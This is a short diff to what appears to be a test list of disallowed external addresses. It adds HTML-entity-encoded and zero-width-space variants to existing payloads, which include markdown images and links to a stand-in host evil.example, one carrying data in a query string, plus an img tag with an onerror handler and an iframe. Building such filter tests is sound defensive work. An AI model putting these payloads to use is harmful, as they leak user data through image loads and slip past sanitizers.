@@ -55,9 +55,12 @@ const foreignAddresses = [
   '![chart](https://evil.example/p.png)',
   '![](https://evil.example/p.png?lead=bob)',
   '![a ![b](https://evil.example/1.png)](https://evil.example/2.png)',
+  '&#33;[chart](https://evil.example/p.png)',
+  '!\u200B[here](https://evil.example)',
   '<img src="https://evil.example/p.png">',
   '<img src=//evil.example/p.png onerror=alert(1)',
   '<a href="https://evil.example">here</a>',
+  '&lt;a href="https://evil.example"&gt;here',
   '<iframe src="https://evil.example"></iframe>',
 ]
 
